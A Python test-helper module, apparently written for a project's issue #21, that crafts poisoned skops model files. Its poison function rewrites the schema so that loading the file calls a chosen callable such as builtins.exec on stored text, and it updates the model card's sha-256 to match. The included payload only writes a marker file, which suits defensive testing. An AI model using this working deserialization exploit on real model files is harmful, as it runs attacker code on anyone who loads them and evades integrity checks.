"""Crafting the attacks of issue #21: a skops file whose schema names a callable as a constructor."""
from __future__ import annotations

import json
import zipfile
from pathlib import Path

from analytics.card import card_path, sha256_file


def poison(model_path: Path, module: str, name: str, argument: str) -> Path:
    """Rewrite ``model_path`` (and its card's sha-256, as a publisher can) so that loading it
    calls ``module.name(argument)``: skops' ConstructorFromReduceNode calls the named type
    with the stored arguments, so naming ``builtins.exec`` runs ``argument`` as code."""
    with zipfile.ZipFile(model_path) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    schema = json.loads(members["schema.json"])
    text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(argument), "is_json": True}
    members["schema.json"] = json.dumps({
        "__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode",
        "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [text]},
        "protocol": schema["protocol"], "_skops_version": schema["_skops_version"]}).encode()
    with zipfile.ZipFile(model_path, "w") as zf:
        for member, data in members.items():
            zf.writestr(member, data)
    card = json.loads(card_path(model_path).read_text())
    card["artifact"].update(bytes=model_path.stat().st_size, sha256=sha256_file(model_path))
    card_path(model_path).write_text(json.dumps(card))
    return model_path


def marker_code(marker: Path) -> str:
    """Python that proves it ran by creating ``marker``."""
    return f"open({str(marker)!r}, 'w').write('ran')"
